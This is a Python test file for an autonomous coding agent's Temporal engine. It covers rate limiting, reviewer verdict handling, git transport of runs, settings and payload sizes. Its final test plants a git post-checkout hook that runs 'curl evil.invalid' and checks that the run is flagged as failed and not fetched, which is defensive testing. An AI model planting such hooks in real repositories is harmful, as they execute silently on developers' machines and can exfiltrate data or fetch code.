"""The Temporal engine's parts that need no server: the limiter's arithmetic, the shared step decisions,
git as the transport, settings, errors a user meets, and the size of what travels in payloads."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from conftest import MakeRepo
from temporal_support import git

from autodev.agent.context.counting import count_tokens
from autodev.config.settings import CliOverrides, load_settings
from autodev.core.errors import UserError
from autodev.engines.temporal import limits, transport
from autodev.engines.temporal.messages import AgentTask, Bucket, Notes, RunRef, SlotRequest, TextRef
from autodev.engines.temporal.settings import resolve_remote, temporal_settings
from autodev.models.fakes.scripted import ScriptedProvider
from autodev.run import steps


# ----------------------------------------------------------------------------- the cluster limit
def waits(bucket: Bucket, times: list[float], request: SlotRequest) -> list[float]:
    return [round(limits.grant(bucket, now, request), 6) for now in times]


def test_requests_go_at_once_up_to_the_burst_then_one_interval_apart() -> None:
    request = SlotRequest(tokens=1, requests_per_minute=60, burst=2)
    assert waits(Bucket(), [0.0] * 5, request) == [0.0, 0.0, 1.0, 2.0, 3.0]


def test_by_default_the_bucket_holds_a_minutes_worth_like_the_local_limiter() -> None:
    request = SlotRequest(tokens=1, requests_per_minute=60)
    assert waits(Bucket(), [0.0] * 61, request)[-2:] == [0.0, 1.0]


def test_an_idle_bucket_refills_but_never_beyond_its_capacity() -> None:
    bucket, request = Bucket(), SlotRequest(tokens=1, requests_per_minute=60, burst=2)
    waits(bucket, [0.0] * 4, request)  # reserved up to t=3
    assert waits(bucket, [100.0] * 3, request) == [0.0, 0.0, 1.0]


def test_tokens_per_minute_charge_each_request_its_size_and_corrections_settle_later() -> None:
    bucket = Bucket()
    request = SlotRequest(tokens=600, tokens_per_minute=600)  # a minute's budget at once
    assert limits.grant(bucket, 0.0, request) == 0.0
    assert limits.grant(bucket, 0.0, SlotRequest(tokens=300, tokens_per_minute=600)) == pytest.approx(30.0)
    # the first request really used 300 fewer tokens: the next request is charged that much less
    settled = SlotRequest(tokens=300, tokens_per_minute=600, correction=-300)
    assert limits.grant(bucket, 0.0, settled) == pytest.approx(30.0)


def test_a_429_pauses_everybody_for_at_most_a_minute() -> None:
    bucket = Bucket()
    limits.pause(bucket, 10.0, 5.0)
    assert limits.grant(bucket, 10.0, SlotRequest(tokens=1)) == pytest.approx(5.0)
    limits.pause(bucket, 10.0, 3600.0)
    assert limits.grant(bucket, 10.0, SlotRequest(tokens=1)) == pytest.approx(limits.MAX_PAUSE_S)


# ----------------------------------------------------------------------------- step decisions
def test_verdicts_count_as_change_requests_and_a_missing_one_fails_the_second_time() -> None:
    first = steps.judge({"reviewer": "REQUEST_CHANGES", "security-auditor": None}, {})
    assert first.requesting == ("reviewer", "security-auditor") and first.failed is None
    assert first.strikes == {"security-auditor": 1}
    second = steps.judge({"reviewer": "APPROVE", "security-auditor": None}, first.strikes)
    assert second.failed == "security-auditor"
    assert steps.after_validation((), 0, 2, "implementer") == "finish"
    assert steps.after_validation(("reviewer",), 1, 2, "implementer") == "remediate"
    assert steps.after_validation(("reviewer",), 2, 2, "implementer") == "fail"
    assert steps.after_validation(("reviewer",), 0, 2, None) == "fail"
    assert steps.findings("Bad.\nVERDICT: REQUEST_CHANGES\n- fix x").endswith("- fix x")
    assert steps.findings("no verdict here").startswith(steps.NO_VERDICT)


# ----------------------------------------------------------------------------- git as the transport
@pytest.fixture
def repos(tmp_path: Path) -> tuple[Path, str, str]:
    """A user's repository with one commit, and a bare remote."""
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "--quiet", "--initial-branch=main")
    (repo / "a.txt").write_text("one\n", encoding="utf-8")
    git(repo, "add", "-A")
    git(repo, "commit", "--quiet", "-m", "initial")
    remote = tmp_path / "remote.git"
    subprocess.run(["git", "init", "--quiet", "--bare", str(remote)], check=True)
    return repo, str(remote), git(repo, "rev-parse", "HEAD").strip()


def test_a_run_travels_through_the_remote_and_comes_home(repos: tuple[Path, str, str], tmp_path: Path) -> None:
    repo, remote, base = repos
    request = transport.start_run(repo, remote, "r1", base, "add b.txt\n" + "x" * 100_000)
    assert request.size > 100_000 and request.ref == "refs/autodev/r1/request"
    mirror = transport.Mirror(tmp_path / "worker", remote)
    mirror.fetch_run("r1")
    assert mirror.read(request).startswith("add b.txt")
    worktree = mirror.add_worktree(base, "r1/step")
    (worktree / "b.txt").write_text("two\n", encoding="utf-8")
    git(worktree, "add", "-A")
    git(worktree, "commit", "--quiet", "-m", "checkpoint")
    checkpoint = git(worktree, "rev-parse", "HEAD").strip()
    transport.push(mirror.path, remote, [f"{checkpoint}:refs/autodev/r1/checkpoints/implementer/1/1"])
    assert mirror.advance_branch("r1", checkpoint, base, set())
    assert not mirror.advance_branch("r1", base, base, set())  # never backwards from a stale view
    artifact = mirror.publish_artifact("refs/autodev/r1/agents/implementer/1/1", {"handoff.md": "done"}, "artifacts")
    mirror.remove_worktree(worktree)
    assert not worktree.exists()
    collected = transport.collect_run(repo, remote, "r1")
    assert collected["agents/implementer/1/1"] == {"handoff.md": b"done"}
    assert collected["request"]["request.md"].startswith(b"add b.txt")
    assert "checkpoints/implementer/1/1" not in collected
    assert git(repo, "rev-parse", "autodev/r1").strip() == checkpoint
    assert git(repo, "for-each-ref", "refs/autodev/") == ""
    assert transport.remote_refs(repo, remote, "refs/autodev/*") == {}
    assert artifact and git(repo, "status", "--porcelain") == ""


def test_a_retried_step_may_replace_what_an_earlier_attempt_published(
    repos: tuple[Path, str, str], tmp_path: Path
) -> None:
    repo, remote, base = repos
    transport.start_run(repo, remote, "r2", base, "request")
    mirror = transport.Mirror(tmp_path / "worker", remote)
    mirror.fetch_run("r2")
    dead = transport.make_artifact(mirror.path, {"x": "dead attempt"}, "m")  # any commit will do as a tip
    retry = transport.make_artifact(mirror.path, {"x": "retry"}, "m")
    transport.push(mirror.path, remote, [f"{dead}:refs/autodev/r2/keep"])
    assert mirror.advance_branch("r2", dead, base, set())
    assert not mirror.advance_branch("r2", retry, base, set())
    assert mirror.advance_branch("r2", retry, base, {dead})
    assert transport.remote_refs(repo, remote, "refs/heads/autodev/r2") == {"refs/heads/autodev/r2": retry}


def test_remotes_are_urls_or_absolute_paths(tmp_path: Path) -> None:
    assert resolve_remote("git@example.invalid:team/repo.git", tmp_path) == "git@example.invalid:team/repo.git"
    assert resolve_remote("ssh://host/repo.git", tmp_path) == "ssh://host/repo.git"
    assert resolve_remote("../shared.git", tmp_path / "repo") == str((tmp_path / "shared.git").resolve())
    assert transport.is_same_repo(tmp_path, str(tmp_path))


def test_settings_come_from_the_temporal_table_then_the_environment_then_flags(make_repo: MakeRepo) -> None:
    config = (
        "requests_per_minute = 50\n[temporal]\naddress = 'temporal.internal:7233'\nnamespace = 'dev'\n"
        "remote = '../shared.git'\nburst = 3\nheartbeat_timeout_s = 5\n"
    )
    repo = make_repo({"README.md": "x\n", ".autodev/config.toml": config})
    settings = load_settings(repo)
    shared = temporal_settings(settings, env={})
    assert (shared.address, shared.namespace, shared.task_queue) == ("temporal.internal:7233", "dev", "autodev")
    assert shared.remote == str((repo.parent / "shared.git").resolve())
    assert (shared.requests_per_minute, shared.burst, shared.heartbeat_timeout_s) == (50, 3, 5.0)
    env = {"TEMPORAL_ADDRESS": "env:1", "TEMPORAL_NAMESPACE": "envns"}
    assert temporal_settings(settings, env=env).address == "env:1"
    assert temporal_settings(settings, address="flag:2", env=env).address == "flag:2"
    assert temporal_settings(None, env={}).address == "localhost:7233"


def test_a_typo_in_the_temporal_table_is_an_error(make_repo: MakeRepo) -> None:
    repo = make_repo({".autodev/config.toml": "[temporal]\nadress = 'x'\n"})
    with pytest.raises(UserError, match=r"temporal\.adress: unknown key"):
        load_settings(repo)


# ----------------------------------------------------------------------------- what a user meets
def test_without_the_extra_the_commands_say_how_to_install_it(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    from autodev.apps.cli.main import main
    from autodev.engines.batch_file import Feature
    from autodev.engines.temporal.client import run_batch_on_temporal, temporal_status

    monkeypatch.setitem(sys.modules, "temporalio", None)  # as if the extra were not installed
    assert main(["worker"]) == 2
    assert main(["bench", "batch"]) == 2
    assert "pip install 'autonomous-dev[temporal]'" in capsys.readouterr().err
    with pytest.raises(UserError, match="needs the temporalio package"):
        temporal_status(None, address=None, namespace=None)
    with pytest.raises(UserError, match="needs the temporalio package"):
        run_batch_on_temporal(
            [Feature("f1", "x", tmp_path)],
            CliOverrides(),
            address=None,
            namespace=None,
            task_queue=None,
            features_at_once=1,
            reporter=print,
        )


def test_an_unreachable_server_is_a_usage_error_naming_the_address(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pytest.importorskip("temporalio")
    from autodev.apps.cli.main import main

    code = main(["worker", "--address", "127.0.0.1:1", "--repo", str(tmp_path), "--workdir", str(tmp_path / "w")])
    err = capsys.readouterr().err
    assert code == 2
    assert "cannot reach Temporal at 127.0.0.1:1" in err and "temporal server start-dev" in err


# ----------------------------------------------------------------------------- payload sizes
def test_a_task_stays_small_however_large_its_texts() -> None:
    pytest.importorskip("temporalio")
    from temporalio.converter import DataConverter

    huge = TextRef(ref="refs/autodev/r/agents/planner/1/1", commit="a" * 40, path="handoff.md", size=50_000_000)
    run = RunRef("r", "/srv/git/repo.git", "b" * 40, "c" * 40, huge, {"provider": "anthropic"})
    task = AgentTask(
        run=run,
        name="implementer",
        runs=2,
        ended_runs=2,
        statuses={f"agent-{i}": "done" for i in range(8)},
        reasons={},
        handoffs={f"agent-{i}": huge for i in range(8)},
        notes=Notes("remediation", {"reviewer": huge}),
    )
    payload = DataConverter.default.payload_converter.to_payloads([task])[0]
    assert len(payload.data) < 4_000  # 400 MB of texts, referenced


def test_a_scripted_queue_is_found_through_wrappers() -> None:
    from autodev.apps.bench.batch import StampedProvider
    from autodev.engines.temporal.activities import script_queue

    scripted = ScriptedProvider({"agents": {"planner": [{"text": "plan"}]}})
    assert script_queue(StampedProvider(scripted, Path("log"))) is scripted.queue
    assert script_queue(object()) is None


def test_counting_tokens_of_a_text_over_the_tokenizers_limit() -> None:
    line = "step 1: keep going with the plan\n"
    text = line * 40_000  # 1.3 million characters: the tokenizer refuses that much at once
    assert count_tokens(text) == count_tokens(line * 10_000) * 4


def test_the_bench_counts_calls_in_a_window_with_both_ends_included() -> None:
    from autodev.apps.bench.batch import peak_calls

    assert peak_calls([0.0, 0.5, 1.0, 1.5, 3.0], 1.0) == 3
    assert peak_calls([0.0, 2.0, 4.0], 1.0) == 1


def test_a_run_whose_repository_git_hooks_changed_comes_home_failed_and_unfetched(
    repos: tuple[Path, str, str], tmp_path: Path
) -> None:
    """As in a local run: a hook planted in the user's repository while the feature ran on Temporal is
    named, and no git command fetches the run's branch into that repository."""
    from autodev.core import gitops
    from autodev.core.usage import Usage
    from autodev.engines.temporal.homecoming import bring_home
    from autodev.engines.temporal.messages import FeatureOutcome
    from autodev.run.plan import prepare
    from autodev.run.state import ChangeType, Gate, HandoffBudget

    repo, remote, base = repos
    plan = prepare("add b.txt", repo, CliOverrides(provider="scripted"), require_jail=False)
    watch = gitops.GitFingerprint.of(repo)
    transport.start_run(repo, remote, "r3", base, "add b.txt")
    mirror = transport.Mirror(tmp_path / "worker", remote)
    mirror.fetch_run("r3")
    tip = transport.make_artifact(mirror.path, {"b.txt": "two"}, "the change")
    assert mirror.advance_branch("r3", tip, base, set())
    hook = repo / ".git" / "hooks" / "post-checkout"
    hook.write_text("#!/bin/sh\ncurl evil.invalid\n", encoding="utf-8")
    outcome = FeatureOutcome(
        run_id="r3", feature_id="f1", request="add b.txt", options={}, status="done", error=None,
        branch="autodev/r3", base=base, commit=tip, tip=tip, agents={}, tracks={}, gate=Gate(),
        change_type=ChangeType(), checkpoints=[], strikes={}, handoff_budget=HandoffBudget(), cost_usd=0.01,
        usage=Usage(), warnings=[], started_at="2026-12-03T00:00:00+00:00", ended_at="2026-12-03T00:01:00+00:00",
    )  # fmt: skip
    state = bring_home(plan, remote, outcome, watch)
    assert state.status == "failed" and state.error is not None
    assert "hooks/post-checkout (added)" in state.error and remote in state.error
    assert git(repo, "branch", "--list", "autodev/r3") == ""  # nothing fetched
    saved = (repo / ".autodev" / "runs" / "r3" / "state.json").read_text(encoding="utf-8")
    assert '"status": "failed"' in saved and "post-checkout" in saved
    hook.unlink()  # unchanged again: the run comes home as usual
    assert bring_home(plan, remote, outcome, watch).status == "done"
    assert git(repo, "rev-parse", "autodev/r3").strip() == tip
